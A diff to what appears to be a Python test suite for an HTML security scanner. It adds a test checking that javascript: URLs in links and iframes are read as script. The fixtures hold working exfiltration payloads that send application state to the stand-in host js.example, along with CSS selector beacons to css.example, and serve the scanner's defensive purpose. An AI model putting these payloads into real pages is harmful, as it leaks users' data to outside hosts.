@@ -70,3 +70,14 @@ def test_css_in_a_srcdoc_document_is_read_as_the_block_s_css():
     style = "<style>input[value$=a]{background:url(https://css.example/a)}@font-face{font-family:f;src:url(https://css.example/f)}</style>"
     found = rules(f'<iframe srcdoc="{html.escape(style)}<input>"></iframe>')
     assert {h for f in found["url.external"] for h in f.hosts} == {"css.example"}
+
+
+def test_the_code_of_a_javascript_url_is_the_block_s_script():
+    """WebKitGTK runs a clicked link's javascript: URL and Chromium a frame's javascript: src (the
+    policy's 'unsafe-inline' allows them; measured with review's browser layer): the code is read as
+    the block's script, not called a URL that never loads."""
+    for markup in ('<a href="javascript:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')">go</a>',
+                   '<iframe src="javascript:void(new Image().src=\'https://js.example/?\'+%20flowUi.get(\'c.name\'))"></iframe>'):
+        found = rules(markup)
+        assert [f.paths for f in found["exfil.state-to-url"]] == [["c.name"]], markup
+        assert "url.blocked-scheme" not in found and "blocked.nested-frame" not in found, markup
